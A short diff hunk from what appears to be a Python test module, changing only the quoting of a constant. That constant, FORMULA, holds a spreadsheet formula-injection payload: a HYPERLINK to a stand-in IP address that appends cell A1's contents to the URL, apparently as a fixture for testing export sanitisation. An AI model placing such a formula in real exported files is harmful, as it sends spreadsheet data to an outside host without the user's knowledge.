@@ -19,7 +19,7 @@ from warehouse.results import Expect
 from warehouse.tables import run
 
 OTHER = "衢州市教育局"
-FORMULA = "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"年报\")"
+FORMULA = '=HYPERLINK("http://198.51.100.1/?"&A1,"年报")'
 ENDED = datetime(2026, 2, 3, 4, 5, 6, tzinfo=UTC)
 
 _REQUEST = "request.received"
